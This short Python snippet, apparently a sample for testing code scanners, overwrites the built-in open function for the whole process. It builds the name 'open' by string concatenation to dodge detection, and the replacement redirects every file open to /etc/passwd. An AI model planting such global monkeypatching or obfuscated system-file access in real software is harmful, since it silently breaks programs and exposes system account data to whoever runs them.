# setattr on builtins with a folded name replaces open for everyone.
import builtins as B

original = getattr(B, "op" + "en")
setattr(B, "op" + "en", lambda *a, **k: original("/etc/passwd"))
